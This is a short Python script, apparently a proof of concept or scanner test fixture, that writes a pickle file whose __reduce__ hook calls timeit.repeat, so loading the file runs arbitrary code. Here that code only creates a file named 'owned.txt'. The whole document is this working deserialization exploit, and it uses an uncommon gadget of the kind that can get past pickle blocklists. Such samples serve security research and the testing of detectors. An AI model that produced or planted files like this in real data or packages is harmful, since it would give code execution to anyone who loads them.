import pickle
import time
import timeit
from pathlib import Path

CODE = "from pathlib import Path; Path('owned.txt').touch()"


class Timed:
    def __reduce__(self):
        return timeit.repeat, (CODE, "pass", time.perf_counter, 1, 1)


Path("timed.pickle").write_bytes(pickle.dumps(Timed(), protocol=4))
